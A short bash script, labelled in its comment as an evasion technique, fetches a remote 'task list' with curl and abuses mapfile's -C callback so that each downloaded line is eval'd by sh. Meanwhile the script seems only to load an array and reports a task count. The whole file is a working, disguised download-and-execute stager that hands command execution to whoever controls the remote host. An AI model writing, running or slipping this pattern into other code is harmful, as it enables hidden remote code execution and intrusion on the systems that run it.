#!/usr/bin/env bash
# Evasion: run a shell on downloaded lines. `mapfile -c 1 -C CALLBACK`
# evaluates CALLBACK with the index and the line appended after each line
# read; the callback is `sh -c 'eval "$2"' _`, so every line of the
# fetched "task list" is run by sh while the script seems to load an array.
set -u
list="$(mktemp)"
curl -fsS https://tasks.example-queue.net/today.txt -o "$list"
cb="sh -c 'eval \"\$2\"' _"
mapfile -t -c 1 -C "$cb" tasks < "$list"
echo "loaded ${#tasks[@]} tasks"
rm -f "$list"
